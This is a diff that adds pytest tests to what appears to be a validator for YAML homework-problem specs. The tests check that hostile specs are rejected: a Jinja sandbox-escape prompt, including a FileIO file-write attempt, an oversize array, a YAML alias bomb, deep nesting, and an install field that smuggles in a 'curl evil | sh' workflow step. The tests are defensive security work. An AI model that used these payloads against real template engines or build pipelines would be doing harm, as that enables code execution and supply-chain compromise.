@@ -117,3 +117,46 @@ def test_bad_trace_spec(tiny_bank, name):
 def test_assignment_total_must_add_up(tiny_bank):
     tiny_bank.write("assignments/hw.yaml", "id: hw\ntitle: HW\nseed: 1\ntotal: 4\nproblems:\n  - {id: dot, points: 2}\n  - {id: pick, points: 1}\n")
     assert "assignments/hw.yaml:4: total: the problems' points add up to 3, not 4" in errors_of(tiny_bank)
+
+
+HOSTILE_SPECS = {
+    "template_reaches_python": ("id: x\nkind: numeric\ntitle: t\nprompt: \"{{ ''.__class__.__mro__[1].__subclasses__() }}\"\n"
+                                "params:\n  a: {low: 1, high: 2}\nanswer: {ref: stats.mean, args: [a]}\n",
+                                "x.yaml:4: prompt: SecurityError"),
+    "oversize_shape": ("id: x\nkind: numeric\ntitle: t\nprompt: p\nparams:\n  A: {shape: [1000000, 1000000], low: 0, high: 1}\n"
+                       "answer: {ref: linalg.transpose, args: [A]}\n",
+                       "x.yaml:6: params.A: shape [1000000, 1000000] has 1000000000000 entries; a drawn parameter holds at most 10000"),
+    "alias_bomb": ("id: x\nkind: choice\ntitle: &t t\nprompt: *t\noptions:\n  - {text: a, correct: true}\n  - {text: b}\n",
+                   "x.yaml:3: : anchors and aliases (& and *) are not allowed"),
+    "deep_nesting": ("id: x\nkind: choice\ntitle: t\nprompt: p\nextra: " + "[" * 500 + "]" * 500 + "\n",
+                     "x.yaml:5: : nested more than 32 levels deep"),
+}
+
+
+@pytest.mark.parametrize("name", sorted(HOSTILE_SPECS))
+def test_a_spec_is_data_not_code(tiny_bank, name, tmp_path):
+    """A shared bank cannot run code or exhaust the machine: each attempt is a file:line error."""
+    text, expected = HOSTILE_SPECS[name]
+    tiny_bank.write("x.yaml", text)
+    assert any(e.startswith(expected) for e in errors_of(tiny_bank)), errors_of(tiny_bank)
+
+
+def test_a_template_cannot_write_a_file(tiny_bank, tmp_path):
+    target = tmp_path / "written-by-a-template"
+    prompt = ("{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if c.__name__ == 'FileIO' %}"
+              f"{{{{ c('{target}', 'w') }}}}{{% endif %}}{{% endfor %}}")
+    tiny_bank.write("x.yaml", {"id": "x", "kind": "numeric", "title": "t", "prompt": prompt, "params": {"a": {"low": 1, "high": 2}},
+                               "answer": {"ref": "stats.mean", "args": ["a"]}})
+    result = run_grader("validate", tiny_bank.root)
+    assert result.returncode == 2 and "prompt: SecurityError" in result.stderr and not target.exists()
+
+
+def test_a_spec_that_is_not_utf8_is_a_line_error(tiny_bank):
+    (tiny_bank.root / "x.yaml").write_bytes(b"id: x\nkind: choice\ntitle: caf\xe9\n")
+    assert "x.yaml:3: : not UTF-8 text (byte 0xe9 at offset 29)" in errors_of(tiny_bank)
+
+
+def test_the_install_field_cannot_add_a_workflow_step(tiny_bank):
+    tiny_bank.write("assignments/hw.yaml", 'id: hw\ntitle: HW\nseed: 1\ninstall: "x\\n      - run: curl evil | sh"\n'
+                                           "problems:\n  - {id: dot, points: 2}\n")
+    assert any(e.startswith("assignments/hw.yaml:4: install: String should match pattern") for e in errors_of(tiny_bank))
